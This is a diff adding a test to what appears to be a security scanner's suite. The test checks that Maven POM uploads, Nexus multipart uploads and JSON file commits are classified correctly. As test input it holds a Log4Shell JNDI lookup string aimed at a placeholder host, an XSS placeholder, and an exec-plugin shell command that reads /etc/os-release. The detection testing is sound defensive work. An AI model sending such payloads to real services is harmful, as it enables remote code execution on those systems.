@@ -619,6 +619,64 @@ def test_a_containers_program_is_what_its_platform_runs(engine: Engine) -> None:
     assert types(xss) == {"xss"}
 
 
+def test_a_maven_projects_model_is_a_build(engine: Engine) -> None:
+    """A POM that `mvn deploy` puts to a repository, or a part of Nexus' upload: its parent
+    up the tree, the files it packs, Java's packages and the commands its plugins run are
+    a build's (a quarter of the 827 POMs of a local repository were attacks). Told by the
+    model version Maven requires; XSS counts where a repository shows it, and so does
+    Log4Shell: a repository written in Java may log what it is sent."""
+    pom = (
+        '<?xml version="1.0"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n'
+        "  <modelVersion>{version}</modelVersion>\n"
+        "  <parent><groupId>org.example</groupId><relativePath>../../pom.xml</relativePath>"
+        "</parent>\n  <artifactId>app</artifactId><name>{name}</name>\n"
+        "  <build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration>"
+        "<archive><manifestFile>${{project.build.outputDirectory}}/META-INF/MANIFEST.MF"
+        "</manifestFile></archive><scripts><script>println 'built'</script></scripts>"
+        "<relocations><relocation><pattern>org.apache.commons</pattern></relocation>"
+        "</relocations></configuration></plugin><plugin><artifactId>exec-maven-plugin"
+        "</artifactId><configuration><executable>sh</executable><arguments><argument>-c"
+        "</argument><argument>git rev-parse HEAD > target/rev.txt; cat /etc/os-release"
+        "</argument></arguments></configuration></plugin></plugins></build>\n</project>\n"
+    )
+    xml = (("Content-Type", "application/xml"),)
+
+    def types(
+        text: str, path: str = "/repository/releases/org/example/app/1.0/app-1.0.pom"
+    ) -> set[str]:
+        request = Request("PUT", path, xml, text.encode())
+        return {hit.type.value for hit in engine.scan(request)}
+
+    assert types(pom.format(version="4.0.0", name="app")) == set()
+    assert types(pom.format(version="4.0.0", name="app"), "/api/upload") == set()
+    assert types(pom.format(version="4.0.0", name=XSS)) == {"xss"}
+    assert types(pom.format(version="4.0.0", name="${jndi:ldap://x.example/a}")) == {"rce"}
+    assert types(pom.format(version="", name="app")) >= {"rce", "ptrav"}
+    upload = (
+        '--B\r\nContent-Disposition: form-data; name="maven2.asset1"; filename="app.pom"'
+        "\r\nContent-Type: application/xml\r\n\r\n"
+        + pom.format(version="4.0.0", name="app")
+        + "\r\n--B--\r\n"
+    )
+    multipart = (("Content-Type", "multipart/form-data; boundary=B"),)
+    request = Request(
+        "POST", "/service/rest/v1/components?repository=releases", multipart, upload.encode()
+    )
+    assert {hit.type.value for hit in engine.scan(request)} == set()
+    # A file committed in a JSON field is read as text too, where a script is markup's.
+    scripts = "<scripts><script>println 'built'</script></scripts>"
+    committed = {"branch": "main", "content": pom.format(version="4.0.0", name="app")}
+    committed["content"] = committed["content"].replace(scripts, "")
+    json_type = (("Content-Type", "application/json"),)
+    request = Request(
+        "POST",
+        "/api/v4/projects/1/repository/files/pom.xml",
+        json_type,
+        json.dumps(committed).encode(),
+    )
+    assert {hit.type.value for hit in engine.scan(request)} == set()
+
+
 def test_a_workloads_program_in_yaml_is_what_its_platform_runs(engine: Engine) -> None:
     """The same object in YAML (a console's or a GitOps tool's editor posts it so): its
     sequences are read without their items' numbers (`….containers.args`), and its text
